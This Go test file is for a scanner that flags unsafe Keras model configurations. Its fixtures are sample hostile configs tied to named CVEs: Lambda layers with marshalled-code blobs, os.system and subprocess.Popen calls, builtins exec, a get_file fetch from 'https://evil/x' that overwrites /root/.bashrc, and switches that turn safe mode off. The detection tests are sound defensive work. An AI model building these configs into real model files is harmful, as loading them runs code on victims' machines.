package keras

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// testRules are the keras section of the shipped rules.yaml.
func testRules(t testing.TB) Rules {
	t.Helper()
	b, err := os.ReadFile("../../scan/rules.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Keras struct {
			AllowModules   []string `yaml:"allow_modules"`
			Gadgets        []string `yaml:"gadgets"`
			UnsafeSwitches []string `yaml:"unsafe_switches"`
		} `yaml:"keras"`
	}
	if err := yaml.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	k := doc.Keras
	if len(k.AllowModules) == 0 || len(k.Gadgets) == 0 {
		t.Fatal("rules.yaml has no keras section")
	}
	return Rules{AllowModules: k.AllowModules, Gadgets: k.Gadgets, UnsafeSwitches: k.UnsafeSwitches}
}

func decode(t testing.TB, s string) any {
	t.Helper()
	var v any
	if err := json.Unmarshal([]byte(s), &v); err != nil {
		t.Fatalf("bad test JSON: %v", err)
	}
	return v
}

func TestBenignConfigs(t *testing.T) {
	t.Parallel()
	files, _ := filepath.Glob("testdata/*.json")
	if len(files) < 4 {
		t.Fatalf("only %d benign configs", len(files))
	}
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		issues, err := Walk(decode(t, string(b)), testRules(t))
		if err != nil || len(issues) != 0 {
			t.Errorf("%s: %v %+v", p, err, issues)
		}
	}
}

// marshalB64 is base64 of a synthetic marshal code-object header, wrapped
// at 76 columns like Python's codecs.encode(..., "base64").
func marshalB64(first byte) string {
	raw := append([]byte{first, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0}, make([]byte, 60)...)
	s := base64.StdEncoding.EncodeToString(raw)
	return s[:76] + `\n` + s[76:] + `\n`
}

func layer(cls, name, cfg string) string {
	return `{"module": "keras.layers", "class_name": "` + cls + `", "config": {"name": "` + name + `"` + cfg + `}, "registered_name": null}`
}

func seq(layers ...string) string {
	return `{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [` + strings.Join(layers, ",") + `]}}`
}

func TestMalicious(t *testing.T) {
	t.Parallel()
	getFile := `{"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}`
	cases := []struct {
		name   string
		doc    string
		want   []Kind
		layer  string // layer named in the first wanted issue
		inPath string
	}{
		{"keras2 lambda marshal", `{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "lam", "function": ["` + marshalB64(0xe3) + `", null, null], "function_type": "lambda", "module": "__main__"}}]}}`,
			[]Kind{Lambda, MarshalledCode}, "lam", "function[0]"},
		{"keras2 __lambda__ code (CVE-2024-3660)", `{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l2", "function": {"class_name": "__lambda__", "config": {"code": "` + marshalB64('c') + `", "defaults": null, "closure": null}}}}]}}`,
			[]Kind{Lambda, Lambda, MarshalledCode}, "l2", "config.code"},
		{"keras3 lambda value", seq(layer("Lambda", "l3", `, "function": {"class_name": "__lambda__", "config": {"value": ["`+marshalB64(0xe3)+`", null, null]}}`)),
			[]Kind{Lambda, Lambda, MarshalledCode}, "l3", "value[0]"},
		{"CVE-2025-1550 module", seq(`{"module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": null}`),
			[]Kind{UnknownModule}, "s", "layers[0]"},
		{"CVE-2025-1550 function in builtins", seq(layer("Dense", "d", `, "activation": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}`)),
			[]Kind{UnknownModule}, "d", "activation"},
		{"CVE-2025-8747 get_file", seq(layer("Lambda", "dl", `, "function": `+getFile+`, "arguments": {"origin": "https://evil/x", "fname": "/root/.bashrc"}`)),
			[]Kind{Lambda, Gadget}, "dl", "function"},
		{"CVE-2025-9906 unsafe switch then load_model", seq(
			layer("Lambda", "switch", `, "function": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}`),
			layer("Lambda", "loader", `, "function": {"module": "keras.models", "class_name": "function", "config": "load_model", "registered_name": "function"}, "arguments": {"filepath": "inner.keras", "safe_mode": false}`)),
			[]Kind{Lambda, UnsafeSwitch, Lambda, Gadget, UnsafeSwitch}, "switch", "layers[0]"},
		{"set_global_attribute", seq(layer("Lambda", "g", `, "function": {"module": "keras.src.backend.common.global_state", "class_name": "function", "config": "set_global_attribute", "registered_name": "function"}, "arguments": {"name": "safe_mode_saving", "value": false}`)),
			[]Kind{Lambda, UnsafeSwitch}, "g", ""},
		{"TorchModuleWrapper (CVE-2025-49655)", seq(`{"module": "keras.src.utils.torch_utils", "class_name": "TorchModuleWrapper", "config": {"name": "tw", "module": "gASV..."}, "registered_name": "TorchModuleWrapper"}`),
			[]Kind{TorchWrapper}, "tw", ""},
		{"keras2 custom layer", `{"class_name": "Functional", "config": {"layers": [{"class_name": "MyAttention", "config": {"name": "att"}, "inbound_nodes": []}]}}`,
			[]Kind{UnknownClass}, "att", ""},
		{"nested in optimizer and inbound_nodes kwargs", `{"module": "keras", "class_name": "Functional", "config": {"layers": [
			{"module": "keras.layers", "class_name": "Dense", "config": {"name": "deep"}, "inbound_nodes": [{"args": [], "kwargs": {"mask": {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}}}}]}]},
			"compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"name": "adam", "learning_rate": {"module": "keras.utils", "class_name": "function", "config": "get_file"}}}}}`,
			[]Kind{UnknownModule, Gadget}, "adam", "inbound_nodes[0].kwargs.mask"},
		{"layers inside layers", seq(layer("Bidirectional", "bi", `, "layer": `+layer("TimeDistributed", "td", `, "layer": {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "inner", "function": "`+marshalB64(0xe3)+`"}}`)+``)),
			[]Kind{Lambda, MarshalledCode}, "inner", "config.layer.config.layer"},
		{"safe_mode false anywhere", seq(layer("Dense", "sm", `, "safe_mode": false`)), []Kind{UnsafeSwitch}, "sm", "safe_mode"},
		{"unknown function in keras module", seq(layer("Dense", "fn", `, "activation": {"module": "keras.activations", "class_name": "function", "config": "my_fn", "registered_name": "function"}`)),
			[]Kind{UnknownModule}, "fn", "activation"},
		{"marshal outside lambda", seq(layer("Dense", "m", `, "blob": "`+marshalB64(0xe3)+`"`)), []Kind{MarshalledCode}, "m", "blob"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			issues, err := Walk(decode(t, tc.doc), testRules(t))
			if err != nil {
				t.Fatal(err)
			}
			var got []Kind
			for _, is := range issues {
				got = append(got, is.Kind)
			}
			if !sameKinds(got, tc.want) {
				t.Fatalf("kinds %v, want %v: %+v", got, tc.want, issues)
			}
			first := issues[0]
			if first.Layer != tc.layer {
				t.Errorf("layer %q, want %q", first.Layer, tc.layer)
			}
			found := false
			for _, is := range issues {
				found = found || strings.Contains(is.Path, tc.inPath)
			}
			if !found || !strings.HasPrefix(first.Path, "$") {
				t.Errorf("no path contains %q: %+v", tc.inPath, issues)
			}
		})
	}
}

func sameKinds(a, b []Kind) bool {
	if len(a) != len(b) {
		return false
	}
	count := map[Kind]int{}
	for _, k := range a {
		count[k]++
	}
	for _, k := range b {
		count[k]--
	}
	for _, n := range count {
		if n != 0 {
			return false
		}
	}
	return true
}

func TestAllowlistIsPrefixByComponent(t *testing.T) {
	t.Parallel()
	r := Rules{AllowModules: []string{"keras"}}
	issues, _ := Walk(decode(t, `{"module": "kerasevil", "class_name": "X", "config": {}}`), r)
	if len(issues) != 1 || issues[0].Kind != UnknownModule {
		t.Errorf("kerasevil allowed by prefix keras: %+v", issues)
	}
}

func TestDepthBound(t *testing.T) {
	t.Parallel()
	doc := strings.Repeat(`{"a":[`, 400) + strings.Repeat(`]}`, 400)
	if _, err := Walk(decode(t, doc), testRules(t)); !errors.Is(err, ErrTooDeep) {
		t.Errorf("err %v, want ErrTooDeep", err)
	}
}

func TestMarshalDetector(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		s     string
		loose bool
		want  bool
	}{
		{strings.ReplaceAll(marshalB64(0xe3), `\n`, "\n"), false, true},
		{strings.ReplaceAll(marshalB64('c'), `\n`, "\n"), false, true},
		{base64.StdEncoding.EncodeToString([]byte("c\xff\xff\xff\xff and some more text here....")), false, false},
		{base64.StdEncoding.EncodeToString([]byte("c\xff\xff\xff\xff and some more text here....")), true, true},
		{base64.StdEncoding.EncodeToString([]byte("hello world, this is not code at all")), true, false},
		{"relu", true, false},
		{"this is a sentence with spaces that is long", false, false},
	} {
		if got := isMarshalledCode(tc.s, tc.loose); got != tc.want {
			t.Errorf("isMarshalledCode(%q, %v) = %v", tc.s, tc.loose, got)
		}
	}
}

func TestLooksLikeConfig(t *testing.T) {
	t.Parallel()
	if !LooksLikeConfig(decode(t, `{"class_name": "Sequential", "config": {}}`)) || LooksLikeConfig(decode(t, `{"a": 1}`)) || LooksLikeConfig(decode(t, `[1]`)) {
		t.Error("LooksLikeConfig")
	}
}

func FuzzKerasWalk(f *testing.F) {
	files, _ := filepath.Glob("testdata/*.json")
	for _, p := range files {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b)
		}
	}
	f.Add([]byte(seq(layer("Lambda", "x", `, "function": ["`+marshalB64(0xe3)+`", null, null]`))))
	f.Add([]byte(`{"module": "os", "class_name": "function", "config": "system", "safe_mode": false}`))
	rules := testRules(f)
	f.Fuzz(func(t *testing.T, data []byte) {
		var v any
		if json.Unmarshal(data, &v) != nil {
			return
		}
		issues, _ := Walk(v, rules)
		for _, is := range issues {
			if !strings.HasPrefix(is.Path, "$") {
				t.Fatalf("bad path %q", is.Path)
			}
		}
	})
}
